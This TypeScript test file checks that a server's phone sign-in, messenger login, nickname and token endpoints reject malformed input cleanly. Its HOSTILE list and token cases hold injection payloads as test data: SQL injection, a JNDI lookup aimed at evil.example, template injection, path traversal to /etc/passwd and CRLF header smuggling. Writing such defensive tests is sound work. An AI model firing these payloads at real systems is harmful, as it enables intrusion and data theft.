// Tests malformed sign-in input and nicknames. The server must return an error code and never an internal error.
import { once } from 'node:events';
import { type AddressInfo, connect } from 'node:net';
import { authLogout, authPhone, authPhoneCode, userProfile, userProfileUpdate } from '@juzhongren/contract/accounts';
import type { Call } from '@juzhongren/contract/call';
import { ERROR } from '@juzhongren/contract/errors';
import { authWechatCode, authYiliMiniLogin } from '@juzhongren/contract/messenger';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { ExternalIdentityError, ExternalIdentity } from '../ports/messenger.ts';
import { testMessenger } from '../testing/messenger.ts';
import { addressOf, type TestServer, type TestUser, testServer } from '../testing/server.ts';

const PHONE = '13800000001';

let server: TestServer;
let user: TestUser;
beforeAll(async () => {
  // Like a real provider, it accepts only codes and apps that it created.
  const identify = async (code: string, app?: string): Promise<ExternalIdentity | ExternalIdentityError> =>
    code === 'ok:a' && (app ?? 'k') === 'k' ? { provider: 'test', subject: 'a', unionId: null } : 'refused';
  const messenger = { ...testMessenger, identify };
  server = await testServer({ replace: { messenger, miniProgram: messenger } });
  user = await server.user('甲');
});
afterAll(() => server.close());
beforeEach(() => {
  server.clock.advance(24 * 60 * 60_000);
});

describe('phone numbers and codes', () => {
  test.each(['０１３８', '1380000000', '138000000011', '01012345678', '+1 4155550100', '١٣٨٠٠٠٠٠٠٠١'])(
    'returns the same error for the phone %j when a code is requested and when it is entered',
    async (phone) => {
      const asked = await server.call(authPhoneCode, { phone, ticket: '', rand: '' });
      const entered = await server.call(authPhone, { phone, code: '0000' });
      expect(asked).toMatchObject({ status: 200, err: ERROR.badInput });
      expect(entered).toEqual(asked);
    },
  );

  test.each([' １２３４ ', '1 2 3 4', '\u200B1234'])('accepts a code typed as %j', async (typed) => {
    await server.call(authPhoneCode, { phone: PHONE, ticket: '', rand: '' });
    const digits = [...(server.sent.at(-1)?.code ?? '')];
    const code = typed.replace(/[1-4１-４]/gu, (digit) => {
      const place = Number(digit.normalize('NFKC')) - 1;
      const own = digits[place] ?? '';
      return /[1-4]/.test(digit) ? own : String.fromCodePoint((own.codePointAt(0) ?? 0) + 0xfee0);
    });
    expect((await server.call(authPhone, { phone: PHONE, code })).err).toBe(ERROR.ok);
  });
});

const HOSTILE = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\ud800',
  'a\udfff',
  '\ufffe\uffff',
  "'; drop table app_user; --",
  '%00%0d%0a',
  '\r\nToken: x',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '../../etc/passwd',
  '__proto__',
  '💥'.repeat(8),
  'é'.repeat(32),
  'x'.repeat(64),
  'x'.repeat(512),
  'x'.repeat(50_000),
];
const ODD: readonly unknown[] = [null, 1, -0, 1e308, true, [], {}, ['13800000001'], { toString: '13800000001' }];

describe('hostile texts', () => {
  const calls: [string, Call, Record<string, string>][] = [
    ['a code is asked for', authPhoneCode, { phone: PHONE, ticket: 't', rand: 'r' }],
    ['a code is entered', authPhone, { phone: PHONE, code: '0000', channelId: 'c', accessToken: 'a' }],
    ['a messenger’s code comes back', authWechatCode, { code: 'ok:a', state: 's', channelId: 'c' }],
    ['a mini-program opens', authYiliMiniLogin, { authorization_code: 'ok:a', app_key: 'k', channelId: 'c' }],
  ];

  test.each(calls)('cause no server error where %s', async (_name, call, right) => {
    for (const field of Object.keys(right)) {
      for (const wrong of [...HOSTILE, ...ODD]) {
        const response = await server.send(call, { ...right, [field]: wrong });
        expect([response.statusCode, wrong, field]).toEqual([200, wrong, field]);
      }
    }
  });

  test('are rejected or stored as the channel of a new account', async () => {
    for (const [at, channelId] of HOSTILE.entries()) {
      const phone = String(13_500_000_000 + at);
      server.clock.advance(60 * 60_000);
      await server.call(authPhoneCode, { phone, ticket: '', rand: '' });
      const { code = '' } = server.sent.at(-1) ?? {};
      const { status, err } = await server.call(authPhone, { phone, code, channelId });
      expect([status, channelId.length > 64 ? ERROR.badInput : ERROR.ok]).toEqual([200, err]);
    }
  });
});

describe('nickname', () => {
  const update = (nickname: string) => server.call(userProfileUpdate, { nickname }, user);
  const kept = async () => (await server.call(userProfile, {}, user)).params.nickname;
  const FAMILY = '👨‍👩‍👧‍👦';
  const ENGLAND = '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}';

  test.each([
    ['twenty families', FAMILY.repeat(20)],
    ['twenty flags', ENGLAND.repeat(20)],
    ['faces of every colour', '👩🏽‍❤️‍💋‍👨🏾'.repeat(10)],
    ['keys of a telephone', '1️⃣#️⃣*️⃣'],
    ['Thai', 'สวัสดีครับ'],
    ['Devanagari', 'क्ष्म्यां'],
    ['Vietnamese', 'Nguyễn Thị Hằng'],
    ['Persian with its joiner', 'می\u200Cخواهم'],
    ['the rarest characters', '𪚥𠮷𡿨'],
    ['twenty Chinese characters', '一二三四五六七八九十一二三四五六七八九十'],
  ])('stores a nickname of %s as written, in NFC', async (_name, nickname) => {
    expect(await update(nickname)).toMatchObject({ status: 200, err: ERROR.ok });
    expect(await kept()).toBe(nickname.normalize('NFC'));
  });

  test.each([
    ['300 emoji', '😀'.repeat(300)],
    ['21 families', FAMILY.repeat(21)],
    ['spaces of every kind', ' \t\u00A0\u1680\u2000\u2003\u2009\u200A\u202F\u205F\u3000'],
    ['nothing that is seen', '\u200B\u200C\u200D\u2060\uFEFF'],
    ['a joiner alone', '\u200D'],
    ['a soft hyphen', 'a\u00ADb'],
    ['a mark that joins unseen', 'a\u034Fb'],
    ['vowels that draw nothing', 'a\u17B4\u17B5'],
    ['marks alone', '\u0301\u0301'],
    ['a blank letter', '\u3164'],
    ['an empty pattern of dots', '\u2800'],
    ['a text turned round', '\u202Etxt.exe'],
    ['a part of it turned round', 'a\u2067b\u2069'],
    ['an Arabic letter mark', '\u061Ca'],
    ['a tower of marks', `Z${'\u0335\u0321\u0322\u031B'.repeat(20)}`],
    ['a tower with joiners between', `Z${'\u0335\u0321\u200D'.repeat(60)}`],
    ['a letter and joiners', `a${'\u200D'.repeat(200)}`],
    ['two lines', '甲\n乙'],
    ['a paragraph', '甲\u2029乙'],
    ['NUL', '甲\u0000'],
    ['an escape sequence', '\u001B[31m甲'],
    ['a C1 control', '\u009B31m甲'],
    ['half a letter', '甲\uD83D'],
    ['the other half', '\uDE00甲'],
    ['a kilobyte', '甲'.repeat(1024)],
  ])('rejects a nickname of %s and keeps the old one', async (_name, nickname) => {
    const before = await kept();
    expect(await update(nickname)).toMatchObject({
      status: 200,
      err: ERROR.badInput,
      params: { issues: [{ path: 'nickname' }] },
    });
    expect(await kept()).toBe(before);
  });

  test.each(ODD)('rejects the nickname %j', async (nickname) => {
    const response = await server.send(userProfileUpdate, { nickname }, user);
    expect([response.statusCode, response.json<{ err: number }>().err]).toEqual([200, ERROR.badInput]);
  });
});

describe('invalid token', () => {
  test('is refused when it belongs to another deployment', async () => {
    const other = await testServer();
    const { token } = await other.user();
    expect((await other.call(userProfile, {}, { token })).err).toBe(ERROR.ok);
    for (const call of [userProfile, authLogout])
      expect(await server.call(call, {}, { token })).toMatchObject({ status: 200, err: ERROR.sessionInvalid });
    await other.close();
  });

  test.each([
    ['43 characters that nobody has', 'A'.repeat(43)],
    ['ten kilobytes', 'A'.repeat(10_240)],
    ['the right one with a letter more', () => `${user.token}A`],
    ['the right one in other letters', () => swapCase(user.token)],
    ['the right one twice', () => `${user.token}, ${user.token}`],
    ['two lines', () => `${user.token}\nX-Other: 1`],
    ['NUL', () => `${user.token}\u0000`],
    ['Latin letters with marks', 'é'.repeat(43)],
    ['a hash', 'a'.repeat(64)],
    ['SQL', "' or '1'='1"],
  ])('is refused when it is %s', async (_name, given) => {
    const token = typeof given === 'string' ? given : given();
    const response = await server.app.inject({ method: 'GET', url: addressOf(userProfile), headers: { token } });
    expect([response.statusCode, response.json<{ err: number }>().err]).toEqual([200, ERROR.sessionInvalid]);
  });

  test('is refused when its header is malformed or repeated', async () => {
    await server.app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = server.app.server.address() as AddressInfo;
    const say = async (header: string) => {
      const socket = connect(port, '127.0.0.1');
      socket.write(`GET ${addressOf(userProfile)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${header}\r\n\r\n`);
      let answer = '';
      socket.setEncoding('utf8').on('data', (chunk: string) => (answer += chunk));
      await once(socket, 'close');
      return [Number(answer.split(' ', 2)[1]), /"err":(-?\d+)/.exec(answer)?.[1]];
    };
    // Valid HTTP with a wrong token counts as a visitor. Malformed HTTP is rejected with status 400.
    expect(await say(`Token: ${user.token}`)).toEqual([200, '0']);
    expect(await say(`Token: ${user.token}x`)).toEqual([200, '2']);
    expect(await say(`Token: ${user.token}\r\nToken: ${user.token}`)).toEqual([200, '2']);
    for (const header of [`Token: ${user.token}\n x`, `Token: a\u0000b`, `Token : ${user.token}`, 'Token']) {
      expect([header, (await say(header))[0]]).toEqual([header, 400]);
    }
    expect((await say(`Token: ${'A'.repeat(20_000)}`))[0]).toBe(431);
  });
});

const swapCase = (text: string) =>
  text.replace(/[a-z]/gi, (letter) => (letter < 'a' ? letter.toLowerCase() : letter.toUpperCase()));
